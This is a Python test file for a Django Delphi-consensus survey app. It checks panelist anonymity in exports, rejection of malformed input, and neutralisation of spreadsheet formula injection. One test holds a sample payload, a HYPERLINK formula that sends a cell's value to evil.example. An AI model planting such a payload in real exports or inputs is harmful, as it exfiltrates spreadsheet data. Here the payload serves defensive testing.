"""Exports and results that could tie a rating to a name (open rounds, row order), spreadsheet
formula injection, and bad input that must be a clear error rather than a server error."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.translation import gettext as _
from openpyxl import load_workbook

from consensus import selectors
from consensus.models import Rating
from consensus.services.ratings import Answer, ballot_submit, rating_save
from consensus.services.rounds import round_close, round_open
from tests.factories.consensus import committee_member, study_with_panel

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@")


def _client(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _study_rated_with_comment(comment: str):
    study = study_with_panel(n_items=1, n_panelists=5)
    first = round_open(user=study.created_by, study=study)
    item = first.round_items.get()
    for panelist in study.panelists.order_by("pk"):
        ballot_submit(user=panelist.user, delphi_round=first, answers={item.pk: Answer(8, comment)})
    round_close(user=study.created_by, delphi_round=first)
    return study


def test_xlsx_export_writes_a_formula_looking_comment_as_text():
    """A panelist's comment such as "=HYPERLINK(...)" is a text cell in the XLSX export, never a
    formula that the facilitator's spreadsheet would run (formula injection)."""
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    study = _study_rated_with_comment(payload)
    response = _client(committee_member()).get(reverse("consensus:export-xlsx", args=[study.pk]))
    sheet = load_workbook(io.BytesIO(response.content))[_("Comments")]
    comments = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert comments, "the export has rating rows"
    for cell in comments:
        assert cell.data_type != "f", "a panelist's comment became a spreadsheet formula"


def test_csv_export_cells_starting_with_formula_characters_are_neutralised():
    """A comment such as "=1+2" or "@SUM(A1)" is exported with a leading apostrophe: spreadsheet
    software shows it as text instead of evaluating it (CSV injection)."""
    study = _study_rated_with_comment("=1+2")
    response = _client(committee_member()).get(
        reverse("consensus:export-comments-csv", args=[study.pk])
    )
    rows = _csv_rows(response)[1:]
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), f"formula-like cell exported as is: {cell!r}"


def test_xlsx_export_works_with_a_control_character_in_a_comment():
    """A comment pasted with a control character (a vertical tab from a word processor) does not
    stop the XLSX export: openpyxl refuses such characters, so they are left out."""
    study = _study_rated_with_comment("ligne 1\x0bligne 2")
    response = _client(committee_member()).get(reverse("consensus:export-xlsx", args=[study.pk]))
    assert response.status_code == 200


def test_a_malformed_score_shows_the_ballot_again_with_a_message():
    """A posted score such as "--5" (or "²") is refused with HTTP 400: the panelist sees the form
    again with the message and what they typed, and nothing is stored."""
    study = study_with_panel(n_items=1, n_panelists=1)
    delphi_round = round_open(user=study.created_by, study=study)
    item = delphi_round.round_items.get()
    client = _client(study.panelists.get().user)
    url = reverse("consensus:ballot", args=[delphi_round.pk])
    for raw in ("--5", "²"):
        response = client.post(
            url, {f"score-{item.pk}": raw, f"comment-{item.pk}": "gardé", "save": ""}
        )
        assert response.status_code == 400, raw
        assert "gardé" in response.content.decode()
    assert not Rating.objects.exists()


def test_a_comment_with_a_nul_character_is_refused_with_a_message():
    """PostgreSQL cannot store a NUL character: such a comment is refused with a message, never
    a server error."""
    study = study_with_panel(n_items=1, n_panelists=1)
    delphi_round = round_open(user=study.created_by, study=study)
    item = delphi_round.round_items.get()
    client = _client(study.panelists.get().user)
    url = reverse("consensus:ballot", args=[delphi_round.pk])
    response = client.post(
        url, {f"score-{item.pk}": "7", f"comment-{item.pk}": "a\x00b", "save": ""}
    )
    assert response.status_code in (302, 400)


def test_exports_leave_out_the_open_round():
    """While a round is open the dashboard names who has not submitted yet (for reminders); the
    exports hold no rating of that round, so no pseudonym can be matched with the panelists
    missing from that list."""
    study = study_with_panel(n_items=1, n_panelists=3)
    facilitator = study.created_by
    delphi_round = round_open(user=facilitator, study=study)
    item = delphi_round.round_items.get()
    alice = study.panelists.order_by("pk").first()
    ballot_submit(
        user=alice.user, delphi_round=delphi_round, answers={item.pk: Answer(2, "franchise")}
    )
    client = _client(facilitator)
    dashboard = client.get(reverse("consensus:study-detail", args=[study.pk])).content.decode()
    alice_name = alice.user.get_full_name() or alice.user.get_username()
    assert alice_name not in dashboard  # she is the one who submitted
    rows = _csv_rows(client.get(reverse("consensus:export-csv", args=[study.pk])))[1:]
    assert rows == [], f"open-round ratings exported under a pseudonym: {rows}"


def test_results_leave_out_the_open_round():
    """With one ballot submitted in the open round, the results show no statistic of that round
    (no n = 1 and its score next to the dashboard's pending names)."""
    study = study_with_panel(n_items=1, n_panelists=3)
    delphi_round = round_open(user=study.created_by, study=study)
    item = delphi_round.round_items.get()
    alice = study.panelists.order_by("pk").first()
    ballot_submit(user=alice.user, delphi_round=delphi_round, answers={item.pk: Answer(2)})
    results = selectors.study_results(study)
    assert results.report.items == [], "statistics of a round still open are shown"


def test_the_results_page_says_the_open_round_is_left_out(client):
    study = study_with_panel(n_items=1, n_panelists=3)
    round_open(user=study.created_by, study=study)
    client.force_login(study.created_by)
    response = client.get(f"/consensus/etudes/{study.pk}/resultats/")
    assert response.status_code == 200
    assert "Le tour en cours n’est pas inclus" in response.content.decode()


def test_export_row_order_does_not_follow_panelist_invitation_order():
    """Within an item and round, export rows are ordered by something that carries no identity,
    not by Panelist.pk (the order in which the facilitator invited the panel): the n-th row of a
    block is not the n-th invited panelist."""
    study = study_with_panel(n_items=1, n_panelists=6)
    first = round_open(user=study.created_by, study=study)
    item = first.round_items.get()
    for panelist in study.panelists.order_by("pk"):
        ballot_submit(user=panelist.user, delphi_round=first, answers={item.pk: Answer(5)})
    round_close(user=study.created_by, delphi_round=first)
    pseudonyms = [row[3] for row in selectors.ratings_export_rows(study)]
    invitation_order = [
        selectors.panelist_pseudonym(study, 1, p.pk) for p in study.panelists.order_by("pk")
    ]
    assert len(set(pseudonyms)) == 6
    # Ordered by pseudonym, the order says nothing.
    assert pseudonyms == sorted(invitation_order)


def test_a_decision_for_a_non_numeric_item_is_not_found():
    """item=abc posted to the committee decision page is a 404, not a server error."""
    study = study_with_panel(n_items=1, n_panelists=1)
    client = _client(committee_member())
    response = client.post(reverse("consensus:decisions", args=[study.pk]), {"item": "abc"})
    assert response.status_code == 404


def test_a_ballot_saved_but_never_submitted_is_left_out_everywhere():
    """The methods report counts submitted ballots: the statistics, the exports and the next
    round's feedback count the same panelists, not a partial ballot abandoned half-way."""
    study = study_with_panel(n_items=1, n_panelists=6)
    first = round_open(user=study.created_by, study=study)
    item = first.round_items.get()
    *done, halfway = study.panelists.order_by("pk")
    for panelist in done:
        ballot_submit(user=panelist.user, delphi_round=first, answers={item.pk: Answer(8)})
    rating_save(user=halfway.user, round_item=item, score=1, comment="à revoir")
    round_close(user=study.created_by, delphi_round=first)

    [row] = selectors.study_results(study).report.items
    assert (row.stats.n, row.stats.median) == (5, 8)
    assert [r[4] for r in selectors.ratings_export_rows(study)] == [8] * 5
    assert selectors.comments_export_rows(study) == []
    second = round_open(user=study.created_by, study=study)
    _ballot, lines = selectors.ballot_for_panelist(done[0], second)
    feedback = lines[0].feedback
    assert (feedback.n, feedback.comments) == (5, [])
